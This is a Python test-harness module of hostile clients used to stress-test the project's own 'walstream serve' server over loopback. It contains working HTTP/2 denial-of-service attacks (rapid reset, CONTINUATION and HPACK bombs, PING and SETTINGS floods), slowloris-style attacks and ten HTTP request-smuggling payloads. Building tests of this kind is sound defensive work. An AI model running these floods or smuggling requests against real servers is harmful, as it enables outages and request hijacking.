"""Hostile clients of ``walstream serve``, for the attack tests (``core/tests/test_server_hostile.py``)
and the attack benchmark (``bench/hostile.py``): each attack is a function that attacks a server
for a bounded time and stops by itself, plus the two things measured around it, the server's
memory (:class:`MemoryWatch`) and another client's probes (:class:`Probes`).

The attackers speak from their own loopback address (:data:`ATTACKER_ADDRESS`, ``127.0.0.2``),
so the per-address bounds of the server apply to them and not to the probing client
(``127.0.0.1``). HTTP/2 attackers frame with the ``h2`` library where it allows what the attack
needs, and write raw frames where it does not (floods past what ``h2`` would send, header blocks
that never end). Every loop is bounded in count and time; every socket is closed at the end.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import ssl
import struct
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.settings

__all__ = [
    "ATTACKER_ADDRESS",
    "ATTACKS",
    "SMUGGLING_SHAPES",
    "Attack",
    "MemoryWatch",
    "Probes",
    "Target",
    "cpu_seconds",
    "prefill",
    "rss_bytes",
    "smuggle_once",
]

ATTACKER_ADDRESS = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclass(frozen=True)
class Target:
    """A running server: where it listens, its token, and the basin and stream the attacks read
    (:func:`prefill` writes them)."""

    host: str
    port: int
    token: str
    basin: str = "hostile-basin"
    stream: str = "hostile"

    def auth(self) -> list[tuple[bytes, bytes]]:
        return [
            (b"authorization", f"Bearer {self.token}".encode()),
            (b"s2-basin", self.basin.encode()),
        ]


# -- around an attack ---------------------------------------------------------------------------


def _status_kib(pid: int, field_name: str) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field_name + ":"):
                return int(line.split()[1])
    raise RuntimeError(f"no {field_name} for process {pid}")


def rss_bytes(pid: int) -> int:
    return _status_kib(pid, "VmRSS") * 1024


def cpu_seconds(pid: int) -> float:
    """User and system CPU time the process used so far."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class MemoryWatch:
    """The peak RSS of a process over an interval: the kernel's high-water mark (VmHWM), reset
    at :meth:`start` (``/proc/PID/clear_refs``), and sampled too (in case the reset is not
    allowed)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak = 0
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def start(self) -> None:
        with contextlib.suppress(OSError):
            with open(f"/proc/{self.pid}/clear_refs", "w") as refs:
                refs.write("5")
        self.peak = rss_bytes(self.pid)
        self._stop.clear()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._stop.wait(0.05):
            with contextlib.suppress(OSError, RuntimeError):
                self.peak = max(self.peak, rss_bytes(self.pid))

    def stop(self) -> int:
        """The peak RSS since :meth:`start`, in bytes."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join()
        with contextlib.suppress(OSError, RuntimeError):
            self.peak = max(self.peak, _status_kib(self.pid, "VmHWM") * 1024)
        return self.peak


@dataclass
class ProbeResult:
    kind: str
    ok: bool
    seconds: float
    detail: str = ""


@dataclass
class Probes:
    """Another client (from 127.0.0.1, a new connection each time) asking for ``/health`` and
    appending one record, in turn, until stopped: each probe waits up to ``timeout_s``."""

    target: Target
    timeout_s: float = 30.0
    pause_s: float = 0.2
    scheme: str = "http"
    context: ssl.SSLContext | None = None
    results: list[ProbeResult] = field(default_factory=list)

    def _one(self, kind: str) -> ProbeResult:
        url = f"{self.scheme}://{self.target.host}:{self.target.port}"
        if kind == "health":
            request = urllib.request.Request(url + "/health")
        else:
            request = urllib.request.Request(
                f"{url}/v1/streams/{self.target.stream}-probe/records",
                data=json.dumps({"records": [{"body": "probe"}]}).encode(),
                method="POST",
                headers={
                    "authorization": f"Bearer {self.target.token}",
                    "s2-basin": self.target.basin,
                    "content-type": "application/json",
                },
            )
        began = time.monotonic()
        try:
            with urllib.request.urlopen(
                request, timeout=self.timeout_s, context=self.context
            ) as answer:
                answer.read()
                ok = answer.status == 200
                detail = str(answer.status)
        except (urllib.error.URLError, OSError, TimeoutError) as error:
            ok, detail = False, f"{type(error).__name__}: {error}"
        return ProbeResult(kind, ok, time.monotonic() - began, detail)

    async def run(self, stop: asyncio.Event) -> None:
        """Probe until ``stop`` is set (at least one of each kind)."""
        kinds = ("health", "append")
        turn = 0
        while not stop.is_set() or turn < 2:
            self.results.append(await asyncio.to_thread(self._one, kinds[turn % 2]))
            turn += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), self.pause_s)

    def failures(self) -> list[ProbeResult]:
        return [result for result in self.results if not result.ok]


async def prefill(target: Target, records: int = 8, record_bytes: int = 512 * 1024) -> None:
    """The basin, the stream the attacks read, with ``records`` records of ``record_bytes``
    (so a read of 1 MiB has something to answer)."""
    url = f"http://{target.host}:{target.port}"
    headers = {
        "authorization": f"Bearer {target.token}",
        "s2-basin": target.basin,
        "content-type": "application/json",
    }

    def call(method: str, path: str, body: object) -> None:
        request = urllib.request.Request(
            url + path, data=json.dumps(body).encode(), method=method, headers=headers
        )
        with contextlib.suppress(urllib.error.HTTPError):
            with urllib.request.urlopen(request, timeout=60) as answer:
                answer.read()

    def fill() -> None:
        call("POST", "/v1/basins", {"basin": target.basin})
        call("POST", "/v1/streams", {"stream": target.stream})
        call("POST", "/v1/streams", {"stream": target.stream + "-probe"})
        import base64

        value = base64.b64encode(os.urandom(record_bytes)).decode()
        for _ in range(records):
            call(
                "POST",
                f"/v1/streams/{target.stream}/records",
                {"records": [{"body": value}], "format": "base64"},
            )

    await asyncio.to_thread(fill)


# -- the attacker's connections ----------------------------------------------------------------


async def _open(
    target: Target, tls: ssl.SSLContext | None = None, alpn_h2: bool = True
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.wait_for(
        asyncio.open_connection(
            target.host,
            target.port,
            local_addr=(ATTACKER_ADDRESS, 0),
            ssl=tls,
            server_hostname=None if tls is None else "localhost",
        ),
        10,
    )


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream_id)
        + payload
    )


def _client(window: int | None = None) -> h2.connection.H2Connection:
    connection = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding=None)
    )
    connection.initiate_connection()
    if window is not None:
        connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    return connection


def _request_headers(target: Target, method: str, path: str) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", method.encode()),
        (b":scheme", b"http"),
        (b":authority", f"{target.host}:{target.port}".encode()),
        (b":path", path.encode()),
        *target.auth(),
    ]


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(Exception):
        await asyncio.wait_for(writer.wait_closed(), 2)


async def _drain_quietly(writer: asyncio.StreamWriter, timeout_s: float) -> bool:
    """Write what is buffered; False when the server stopped taking it (or closed)."""
    try:
        await asyncio.wait_for(writer.drain(), timeout_s)
        return True
    except (OSError, TimeoutError, ConnectionError):
        return False


Talk = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def _on_connections(target: Target, count: int, talk: Talk) -> None:
    """``talk`` on each of ``count`` connections opened at once from the attacker's address;
    a connection the server does not take is skipped, every opened one is closed after."""

    async def one() -> None:
        try:
            reader, writer = await _open(target)
        except (OSError, TimeoutError):
            return
        try:
            await talk(reader, writer)
        finally:
            await _close(writer)

    await asyncio.gather(*(one() for _ in range(count)))


# -- the attacks --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One attack: ``run(target, scale, seconds)`` attacks for about ``seconds`` (``scale``
    multiplies its counts: 1 in CI, more in a soak)."""

    name: str
    description: str
    run: Callable[[Target, int, float], Awaitable[None]]


async def zero_window_stall(target: Target, scale: int, seconds: float) -> None:
    """4 connections x 100 reads of 1 MiB each with a stream window of 0, never reading."""
    connections = []
    try:
        for _ in range(4):
            _reader, writer = await _open(target)
            client = _client(window=0)
            for _ in range(100 * scale):
                stream_id = client.get_next_available_stream_id()
                client.send_headers(
                    stream_id,
                    _request_headers(
                        target,
                        "GET",
                        f"/v1/streams/{target.stream}/records?seq_num=0&bytes=1048576",
                    ),
                    end_stream=True,
                )
            writer.write(client.data_to_send())
            await _drain_quietly(writer, 5)
            connections.append(writer)
        await asyncio.sleep(seconds)  # never read: the answers wait on the server
    finally:
        for writer in connections:
            await _close(writer)


async def rapid_reset(target: Target, scale: int, seconds: float) -> None:
    """2,000 HEADERS + RST_STREAM on one connection (as fast as it takes them)."""
    await _reset_burst(target, connections=1, per_connection=2000 * scale, seconds=seconds)


async def rapid_reset_spread(target: Target, scale: int, seconds: float) -> None:
    """100 connections x 20 HEADERS + RST_STREAM each."""
    await _reset_burst(target, connections=100, per_connection=20 * scale, seconds=seconds)


async def _reset_burst(
    target: Target, connections: int, per_connection: int, seconds: float
) -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = _client()
        writer.write(client.data_to_send())
        path = f"/v1/streams/{target.stream}/records?seq_num=0&bytes=1048576"
        for number in range(per_connection):
            stream_id = 1 + 2 * number
            if stream_id >= 2**31:
                break
            try:
                client.send_headers(
                    stream_id, _request_headers(target, "GET", path), end_stream=True
                )
                client.reset_stream(stream_id)
            except Exception:  # the server said GOAWAY: this connection is done
                break
            if number % 50 == 49:
                writer.write(client.data_to_send())
                if not await _drain_quietly(writer, 5):
                    break
        writer.write(client.data_to_send())
        await _drain_quietly(writer, 5)
        with contextlib.suppress(Exception):
            await asyncio.wait_for(reader.read(1 << 20), min(seconds, 2))

    deadline = time.monotonic() + max(seconds, 1)
    await _on_connections(target, connections, talk)
    left = deadline - time.monotonic()
    if left > 0:
        await asyncio.sleep(left)


async def _flood(target: Target, frame: bytes, seconds: float, open_stream: bool) -> None:
    _reader, writer = await _open(target)
    try:
        client = _client()
        if open_stream:  # a read that is never read
            client.send_headers(
                1,
                _request_headers(
                    target, "GET", f"/v1/streams/{target.stream}/records?seq_num=0&bytes=1048576"
                ),
                end_stream=True,
            )
        writer.write(client.data_to_send())
        burst = frame * 1000
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            writer.write(burst)
            if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
                break  # the server stopped reading (or closed): it is not answering
    finally:
        await _close(writer)


async def ping_flood(target: Target, scale: int, seconds: float) -> None:
    """PING frames as fast as the server takes them, one stream open, never reading."""
    await _flood(target, _frame(0x6, 0, 0, b"\x00" * 8), seconds, open_stream=True)


async def settings_flood(target: Target, scale: int, seconds: float) -> None:
    """SETTINGS frames (each asks for an ACK) as fast as the server takes them, never reading."""
    payload = struct.pack(">HI", 0x4, 65535)  # INITIAL_WINDOW_SIZE
    await _flood(target, _frame(0x4, 0, 0, payload), seconds, open_stream=False)


async def continuation_bomb(target: Target, scale: int, seconds: float) -> None:
    """On 16 connections: HEADERS without END_HEADERS, then CONTINUATION frames that never end."""

    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = _client()
        writer.write(client.data_to_send())
        writer.write(_frame(0x1, 0, 1, b"\x00" * 1024))
        continuation = _frame(0x9, 0, 1, b"\x00" * 16384)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            writer.write(continuation * 16)
            if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
                break

    await _on_connections(target, 16 * scale, talk)


def _hpack_bomb_blocks() -> tuple[bytes, bytes]:
    """Two header blocks: the first adds a 4 KiB header to the server's dynamic table (literal
    with incremental indexing) with a valid request, the second refers to it 16,000 times by
    one-byte index (16 KiB that decode to 64 MiB of headers)."""

    def integer(value: int, prefix_bits: int, flags: int) -> bytes:
        limit = (1 << prefix_bits) - 1
        if value < limit:
            return bytes((flags | value,))
        out = bytearray((flags | limit,))
        value -= limit
        while value >= 0x80:
            out.append((value & 0x7F) | 0x80)
            value >>= 7
        out.append(value)
        return bytes(out)

    def literal(name: bytes, value: bytes, indexing: bool) -> bytes:
        flag, bits = (0x40, 6) if indexing else (0x00, 4)
        return (
            integer(0, bits, flag)
            + integer(len(name), 7, 0)
            + name
            + integer(len(value), 7, 0)
            + value
        )

    request = (
        b"\x82"  # :method GET
        + b"\x86"  # :scheme http
        + literal(b":path", b"/health", False)
    )
    first = request + literal(b"x-bomb", b"b" * 4000, True)
    second = request + b"\xbe" * 16000  # index 62: the newest dynamic entry
    return first, second


async def hpack_bomb(target: Target, scale: int, seconds: float) -> None:
    """On 8 connections, repeatedly: a header block that indexes a 4 KiB header, then blocks of
    one-byte references to it (each would decode to 64 MiB)."""
    first, second = _hpack_bomb_blocks()

    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = _client()
        writer.write(client.data_to_send())
        writer.write(_frame(0x1, 0x4 | 0x1, 1, first))  # END_HEADERS | END_STREAM
        stream_id = 3
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and stream_id < 2000:
            writer.write(_frame(0x1, 0x4 | 0x1, stream_id, second))
            stream_id += 2
            if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
                break

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:  # each connection is refused at once: open new ones
        await _on_connections(target, 8 * scale, talk)


async def idle_flood(target: Target, scale: int, seconds: float) -> None:
    """700 idle TCP connections (more than ``max_connections`` 512), held for ``seconds``."""
    sockets: list[socket.socket] = []
    try:
        for _ in range(700 * scale):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            sock.bind((ATTACKER_ADDRESS, 0))
            with contextlib.suppress(BlockingIOError, OSError):
                sock.connect((target.host, target.port))
            sockets.append(sock)
            if len(sockets) % 50 == 0:
                await asyncio.sleep(0)
        await asyncio.sleep(seconds)
    finally:
        for sock in sockets:
            sock.close()


async def slowloris(target: Target, scale: int, seconds: float) -> None:
    """200 connections each sending a request head one byte every 0.5 s, never finishing."""
    head = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 1000

    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        deadline = time.monotonic() + seconds
        for byte in head:
            if time.monotonic() > deadline:
                break
            writer.write(bytes((byte,)))
            if not await _drain_quietly(writer, 2):
                break
            await asyncio.sleep(0.5)

    await _on_connections(target, 200 * scale, talk)


async def slow_body(target: Target, scale: int, seconds: float) -> None:
    """60 appends announcing 1 MiB of body, sent one byte every 0.5 s."""
    head = (
        f"POST /v1/streams/{target.stream}/records HTTP/1.1\r\nHost: x\r\n"
        f"authorization: Bearer {target.token}\r\ns2-basin: {target.basin}\r\n"
        "content-type: application/json\r\ncontent-length: 1048576\r\n\r\n"
    ).encode()

    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(head)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            writer.write(b"{")
            if not await _drain_quietly(writer, 2):
                break
            await asyncio.sleep(0.5)

    await _on_connections(target, 60 * scale, talk)


#: Request shapes that desynchronise a front end and a back end that frame a body differently
#: (RFC 9112 6.1, 6.3, 11.2). Each is followed by a second request that must not be answered as
#: a request of its own (it was smuggled inside the first).
SMUGGLED = b"GET /health?smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
SMUGGLING_SHAPES: dict[str, bytes] = {
    "content-length and transfer-encoding": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED
    ),
    "two content-lengths": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n"
        + SMUGGLED
    ),
    "transfer-encoding with a space before the colon": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
        + SMUGGLED
    ),
    "obfuscated transfer-encoding": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
        + SMUGGLED
    ),
    "transfer-encoding folded": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n"
        + SMUGGLED
    ),
    "chunked not last": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n"
        b"0\r\n\r\n" + SMUGGLED
    ),
    "chunk size with a bare LF": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"2c\n" + SMUGGLED + b"\r\n0\r\n\r\n"
    ),
    "negative content-length": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n" + SMUGGLED
    ),
    "content-length with a plus sign": (
        b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: +44\r\n\r\n" + SMUGGLED
    ),
    "header name with a space": (b"GET /health HTTP/1.1\r\nHost: x\r\nX Bad: 1\r\n\r\n" + SMUGGLED),
}


async def smuggle_once(target: Target, shape: bytes) -> list[int]:
    """Send one shape on a fresh connection; the statuses of every answer the server wrote
    before it closed the connection (or 5 s passed)."""
    reader, writer = await _open(target)
    try:
        writer.write(shape)
        await _drain_quietly(writer, 5)
        received = b""
        with contextlib.suppress(TimeoutError, OSError, ConnectionError):
            async with asyncio.timeout(5):
                while chunk := await reader.read(65536):
                    received += chunk
        statuses = []
        for line in received.split(b"\r\n"):
            if line.startswith(b"HTTP/1."):
                statuses.append(int(line.split(b" ", 2)[1]))
        return statuses
    finally:
        await _close(writer)


async def smuggling(target: Target, scale: int, seconds: float) -> None:
    """Every shape of :data:`SMUGGLING_SHAPES` on its own connection, repeated for ``seconds``."""
    deadline = time.monotonic() + seconds
    while True:
        await asyncio.gather(*(smuggle_once(target, shape) for shape in SMUGGLING_SHAPES.values()))
        if time.monotonic() > deadline:
            return


ATTACKS: dict[str, Attack] = {
    attack.name: attack
    for attack in (
        Attack("zero_window_stall", "4 conns x 100 reads of 1 MiB, window 0", zero_window_stall),
        Attack("rapid_reset", "2,000 HEADERS + RST_STREAM on one conn", rapid_reset),
        Attack("rapid_reset_spread", "100 conns x 20 HEADERS + RST_STREAM", rapid_reset_spread),
        Attack("ping_flood", "PING flood, one stream open, never reading", ping_flood),
        Attack("settings_flood", "SETTINGS flood, never reading", settings_flood),
        Attack("continuation_bomb", "16 conns of endless CONTINUATION", continuation_bomb),
        Attack("hpack_bomb", "4 KiB indexed header referenced 16,000x per block", hpack_bomb),
        Attack("idle_flood", "700 idle TCP connections", idle_flood),
        Attack("slowloris", "200 conns, a head byte every 0.5 s", slowloris),
        Attack("slow_body", "60 appends of 1 MiB, a byte every 0.5 s", slow_body),
        Attack("smuggling", "10 request-smuggling shapes, repeated", smuggling),
    )
}
